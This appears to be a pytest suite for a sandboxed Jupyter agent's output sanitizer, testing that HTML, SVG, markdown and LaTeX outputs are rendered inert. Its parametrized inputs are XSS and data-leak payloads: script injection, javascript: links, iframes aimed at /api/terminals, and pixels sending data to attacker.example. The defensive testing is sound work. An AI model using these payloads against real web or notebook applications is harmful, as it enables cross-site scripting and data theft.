"""The host-side output policy against hostile MIME bundles (no VM: the policy is pure host code)."""

from __future__ import annotations

import base64
import re

import pytest

from microagent_jupyter.output_policy import (
    CONTAINER,
    NOTE_PREFIX,
    OutputPolicy,
    UnsafeSVG,
    sanitize_html,
    sanitize_svg,
)
from microagent_jupyter.values import ValueRefused, decode, encode

HOSTILE_HTML = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=2</script>",
    '<a href="javascript:window.__pwned=4">x</a>',
    '<a href=" jav&#x09;ascript:window.__pwned=4">x</a>',
    '<iframe src="/api/terminals"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x">',
    '<svg onload="window.__pwned=6"><circle r=1 /></svg>',
    '<form action="/api/terminals" method=post><button>go</button></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<style>body{background:url(https://evil/?leak)}</style>',
    '<base href="https://evil/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<img src="/files/secret.png">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<details open ontoggle="window.__pwned=7">x</details>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<div id="jp-main-dock-panel">clobber</div>',
]

EXECUTABLE = re.compile(r"<\s*(script|iframe|object|embed|svg|form|base|meta|style|math)\b|\bon[a-z]+\s*=|"
                        r"javascript:|srcdoc|data:text", re.IGNORECASE)


@pytest.mark.parametrize("payload", HOSTILE_HTML)
def test_html_is_inert(payload: str) -> None:
    clean = sanitize_html(payload)
    assert not EXECUTABLE.search(clean), clean
    assert 'src="/' not in clean  # relative URLs would reach the Jupyter server's API
    assert 'id="jp-' not in clean


def test_dataframe_html_keeps_its_table() -> None:
    html = ('<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>'
            '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr>'
            '</thead><tbody><tr><th>0</th><td>1</td></tr></tbody></table></div>')
    clean = sanitize_html(html)
    assert '<table border="1">' in clean and "class=" not in clean  # Lab's CSS classes are never the guest's
    assert "<td>1</td>" in clean and 'style="text-align:right"' in clean.replace(" ", "")
    assert "<style" not in clean


def test_data_images_allowed_only_as_raster_images() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert png in sanitize_html(f'<img src="{png}">')
    assert "data:" not in sanitize_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "data:" not in sanitize_html(f'<a href="{png}">x</a>')


HOSTILE_SVG = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><rect width="1" height="1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=2</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    '<img src="x" onerror="window.__pwned=3"/></body></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<a xlink:href="javascript:window.__pwned=4"><text>x</text></a></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="window.__pwned=5"/>'
    '<animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<use xlink:href="https://evil/x.svg#a"/><image href="javascript:alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil/x.css);</style>'
    '<rect style="fill:url(https://evil/)" width="1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><g><g><rect ONLOAD="x" width="2"/></g></g></svg>',
]


@pytest.mark.parametrize("payload", HOSTILE_SVG)
def test_svg_is_inert(payload: str) -> None:
    clean = sanitize_svg(payload)
    assert clean.startswith("<svg")
    assert not re.search(r"<\s*(script|foreignObject|set|animate|body|img|style[^>]*>\s*@import)|\bon[a-z]+\s*=|"
                         r"javascript:|https?://evil", clean, re.IGNORECASE), clean


def test_svg_with_entities_refused_and_matplotlib_like_svg_kept() -> None:
    with pytest.raises(UnsafeSVG):
        sanitize_svg('<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>')
    with pytest.raises(UnsafeSVG):
        sanitize_svg("<svg")
    plot = ('<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="460pt" height="345pt" viewBox="0 0 460 345" '
            'xmlns="http://www.w3.org/2000/svg" version="1.1"><defs><style type="text/css">*{stroke-linejoin: round;}'
            '</style><path id="m1" d="M 0 0 L 0 3.5" style="stroke: #000000"/></defs><g id="fig">'
            '<g clip-path="url(#p1)"><use xlink:href="#m1" x="57" y="307" style="stroke: #000000"/></g></g>'
            '<defs><clipPath id="p1"><rect x="57" y="41" width="357" height="266"/></clipPath></defs></svg>')
    clean = sanitize_svg(plot)
    for kept in ('clip-path="url(#p1)"', 'href="#m1"', "<clipPath", "stroke-linejoin", 'viewBox="0 0 460 345"'):
        assert kept in clean


def test_executable_types_dropped_with_a_visible_note() -> None:
    policy = OutputPolicy()
    for mime in ("application/javascript", "text/javascript", "application/ecmascript",
                 "application/vnd.jupyter.widget-view+json", "application/x-shockwave-flash",
                 "application/vnd.plotly.v1+json", "text/vnd.something+html"):
        data, _ = policy.filter_bundle({mime: "window.__pwned=3", "text/plain": "<Javascript object>"})
        assert mime not in data
        assert data["text/plain"].startswith(NOTE_PREFIX) and mime in data["text/plain"]
    data, _ = OutputPolicy(allow_widgets=True).filter_bundle(
        {"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2, "evil": "<script>"}})
    assert data["application/vnd.jupyter.widget-view+json"] == {"model_id": "abc", "version_major": 2}


def test_markdown_rendered_on_host_and_sanitized() -> None:
    data, _ = OutputPolicy().filter_bundle(
        {"text/markdown": "# Title\n[x](javascript:window.__pwned=1) <img src=x onerror=alert(1)>\n\n*ok*"})
    assert "text/markdown" not in data
    html = data["text/html"]
    assert "<h1>Title</h1>" in html and "<em>ok</em>" in html
    assert not EXECUTABLE.search(html)


def test_sizes_bounded_per_output_and_per_cell() -> None:
    policy = OutputPolicy(max_output_bytes=1000, max_cell_bytes=2500)
    big = base64.b64encode(b"\0" * 3000).decode()
    data, _ = policy.filter_bundle({"image/png": big, "text/plain": "<Figure>"})
    assert "image/png" not in data and "limit 1000 per output" in data["text/plain"]
    small = base64.b64encode(b"\0" * 600).decode()
    kept = [("image/png" in policy.filter_bundle({"image/png": small})[0]) for _ in range(4)]
    assert kept == [True, True, True, False]  # 800 bytes each: the fourth passes the cell's 2500
    policy.new_cell()
    assert "image/png" in policy.filter_bundle({"image/png": small})[0]
    assert "image/png" not in OutputPolicy().filter_bundle({"image/png": "not base64 <script>"})[0]
    content = OutputPolicy().filter_content("stream", {"name": "stdout", "text": "x" * (5 * 1024 * 1024)})
    assert content is not None and len(content["text"]) < 4 * 1024 * 1024 + 200


def test_metadata_filtered() -> None:
    policy = OutputPolicy()
    png = base64.b64encode(b"x").decode()
    data, meta = policy.filter_bundle(
        {"image/png": png, "text/html": "<b>x</b>"},
        {"isolated": False, "image/png": {"width": 10, "height": "100px;onload", "isolated": False, "x": "y"},
         "text/html": {"isolated": True, "trusted": True}, "application/javascript": {"a": 1}})
    assert meta == {"image/png": {"width": 10}, "text/html": {"isolated": True}}


def test_comm_and_unknown_iopub_messages_dropped() -> None:
    policy = OutputPolicy()
    for msg_type in ("comm_open", "comm_msg", "comm_close", "debug_event", "whatever"):
        assert policy.filter_content(msg_type, {"data": {}}) is None
    err = policy.filter_content("error", {"ename": "ValueError", "evalue": "x", "traceback": ["a", 1], "x": 2})
    assert err == {"ename": "ValueError", "evalue": "x", "traceback": ["a", "1"]}
    upd = policy.filter_content("update_display_data", {"data": {"text/html": "<script>x</script>ok"},
                                                        "metadata": {}, "transient": {"display_id": "d1", "o": 1}})
    assert upd == {"data": {"text/html": f"{CONTAINER}ok</div>"}, "metadata": {}, "transient": {"display_id": "d1"}}


def test_values_refuse_what_has_no_safe_format() -> None:
    with pytest.raises(ValueRefused, match="set"):
        encode({1, 2})
    with pytest.raises(ValueRefused, match="pickle"):
        decode({"name": "x", "format": "pickle", "data": base64.b64encode(b"\x80\x04K\x01.").decode()})
    with pytest.raises(ValueRefused, match="not valid json"):
        decode({"name": "x", "format": "json", "data": "__import__('os')"})
    with pytest.raises(ValueRefused, match="socket"):
        decode({"name": "s", "format": "refused", "type": "socket.socket"})


# ---- guarded edges: nothing fetched on render, no same-origin URLs, no Lab classes, depth-bounded ---------------
FETCHING_HTML = [
    '<img src="https://attacker.example/pixel.gif?leak=secret">',
    '<img src="http://127.0.0.1:9/pixel.gif">',
    '<img srcset="https://attacker.example/a.png 1x" src="data:image/png;base64,iVBORw0KGgo=">',
    '<picture><source srcset="https://attacker.example/p.png"></picture>',
    '<video poster="https://attacker.example/v.png" src="https://attacker.example/v.mp4"></video>',
    '<audio src="https://attacker.example/a.mp3"></audio><input type="image" src="https://attacker.example/i">',
    '<table background="https://attacker.example/bg.png"><tr><td background="https://attacker.example/t">x</td>'
    '</tr></table>',
    '<div style="background-color: red; background-image: url(https://attacker.example/bg)">x</div>',
    '<p style="color: red; list-style-type: image-set(\'https://attacker.example/i.png\' 1x)">x</p>',
    '<link rel="stylesheet" href="https://attacker.example/s.css"><meta http-equiv="refresh" content="0;url=/logout">',
    '<base href="https://attacker.example/"><img src="x.png">',
]


@pytest.mark.parametrize("source", FETCHING_HTML)
def test_html_never_fetches_on_render(source: str) -> None:
    clean = sanitize_html(source)
    for tag in re.findall(r"<[^>]+>", clean):  # no attribute of any kept tag names a remote or relative resource
        assert not re.search(r'(src|srcset|poster|background|href|data)="(?!data:image/)', tag), tag
    assert "url(" not in clean and "image-set" not in clean


def test_remote_image_becomes_visible_text() -> None:
    clean = sanitize_html('<img src="https://attacker.example/p.gif?a=1&b=<2>">')
    assert "<img" not in clean
    assert "remote image not loaded: https://attacker.example/p.gif?a=1&amp;b=&lt;2&gt;" in clean
    md = OutputPolicy().filter_bundle({"text/markdown": "see ![pixel](https://attacker.example/m.png)"})[0]
    assert "<img" not in md["text/html"] and "https://attacker.example/m.png" in md["text/html"]


@pytest.mark.parametrize("href", ["http:/logout", "http:logout", "https:\\\\attacker.example/x", "//attacker.example/",
                                  "/api/contents", "logout", "http://127.0.0.1:8888/logout", "http://localhost/x",
                                  "http://lab.localhost/", "http://[::1]/x", "http://2130706433/", "http://0.0.0.0/",
                                  "https://attacker.example\\@good.example/", "ht\ttp://attacker.example/",
                                  "http://attacker.example/\x01x"])
def test_links_only_absolute_web_urls_off_this_machine(href: str) -> None:
    clean = sanitize_html(f'<a href="{href}">x</a>')
    assert "href=" not in clean, clean


def test_links_show_where_they_go_and_never_the_server_origin() -> None:
    clean = sanitize_html('<a href="https://docs.example/page">read the docs</a>')
    assert 'title="https://docs.example/page"' in clean and "(docs.example)" in clean
    policy = OutputPolicy(server_origins=frozenset({"http://lab.example:8888"}))
    out = policy.filter_bundle({"text/html": '<a href="http://lab.example:8888/logout">sign in again</a>'})[0]
    assert "href" not in out["text/html"] and "sign in again" in out["text/html"]


def test_guest_markup_cannot_take_lab_classes_or_leave_its_area() -> None:
    toast = ('<div class="Toastify__toast-container Toastify__toast-container--top-right" '
             'style="position: fixed; top: 0; margin-top: -400px; z-index: 9999">session expired, sign in again</div>')
    clean = sanitize_html(toast)
    assert clean.startswith(CONTAINER) and clean.endswith("</div>")
    inner = clean[len(CONTAINER):]
    assert "class=" not in inner and "position" not in inner and "z-index" not in inner
    assert "contain: paint" in CONTAINER and "overflow: auto" in CONTAINER  # negative margins are clipped


def test_deep_markup_is_dropped_with_a_note_never_raised() -> None:
    policy = OutputPolicy()
    svg = "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 5000 + "</g>" * 5000 + "</svg>"
    deep_html = "<div>" * 100000 + "x" + "</div>" * 100000
    data, _ = policy.filter_bundle({"image/svg+xml": svg, "text/html": deep_html, "text/plain": "p"})
    assert "image/svg+xml" not in data and "text/html" not in data
    assert "nested deeper" in data["text/plain"]
    assert policy.filter_content("display_data", {"data": {"image/svg+xml": svg}, "metadata": {}}) is not None


def test_policy_never_raises_on_hostile_structures() -> None:
    import random

    rng = random.Random(16)
    atoms: list = [None, 1, 1.5, True, "x", "<b>", "\ud800", [], {}, "a" * 70000]
    policy = OutputPolicy()
    for _ in range(400):
        value = rng.choice(atoms)
        for _ in range(rng.randrange(0, 30)):
            value = rng.choice([[value], {"k": value}, {rng.choice(["text/html", "image/png", "data"]): value}])
        for msg_type in ("display_data", "execute_result", "stream", "error", "execute_input", "status"):
            policy.filter_content(msg_type, {"data": value, "text": value, "traceback": value, "metadata": value})
        policy.filter_bundle(value, value)


def test_cell_text_is_capped_with_one_note() -> None:
    policy = OutputPolicy(max_cell_bytes=3 * 1024 * 1024)
    chunk = "y" * (1024 * 1024)
    texts = [policy.filter_content("stream", {"name": "stdout", "text": chunk}) for _ in range(10)]
    kept = [t for t in texts if t is not None]
    assert sum(len(t["text"]) for t in kept) < 3 * 1024 * 1024 + 1000
    assert sum("output truncated" in t["text"] for t in kept) == 1
    policy.new_cell()
    assert policy.filter_content("stream", {"name": "stdout", "text": "next cell"})["text"] == "next cell"


def test_latex_cannot_fetch_or_style() -> None:
    policy = OutputPolicy()
    for tex in (r"$\bbox[background-image: url(https://attacker.example/x)]{1}$", r"$\href{/logout}{x}$",
                r"$\style{position:fixed}{x}$", r"$\mmlToken{mi}[mathbackground=url(x)]{x}$"):
        assert "text/latex" not in policy.filter_bundle({"text/latex": tex})[0]


def test_a_dropped_widget_says_widgets_do_not_work_here() -> None:
    data, _ = OutputPolicy().filter_bundle({"text/plain": "IntSlider(value=0)",
                                            "application/vnd.jupyter.widget-view+json": {"model_id": "x"}})
    assert list(data) == ["text/plain"] and data["text/plain"].endswith("IntSlider(value=0)")
    assert "ipywidgets do not work in the sandbox" in data["text/plain"]


def test_a_pandas_series_crosses_both_ways_by_json_table() -> None:
    """--in/--out take a Series (named or not) as a one-column JSON table, never a pickle."""
    import sys

    import pandas as pd

    from microagent_jupyter.values import GUEST_CODE

    ns: dict = {}
    exec(GUEST_CODE, ns)  # the guest's side, as a session installs it
    guest = sys.modules["_microagent_values"]
    for series in (pd.Series([1.5, 2.0, 3.0], name="price"), pd.Series(["a", "b"])):
        fmt, data = encode(series)
        assert fmt == "pandas-series-table-json"
        guest.put("s", fmt, data, ns)
        pd.testing.assert_series_equal(ns["s"], series)
        pd.testing.assert_series_equal(decode(guest.encode("s", ns["s"])), series)
    with pytest.raises(ValueRefused, match="one column"):
        decode({"name": "s", "format": "pandas-series-table-json",
                "data": pd.DataFrame({"a": [1], "b": [2]}).to_json(orient="table")})
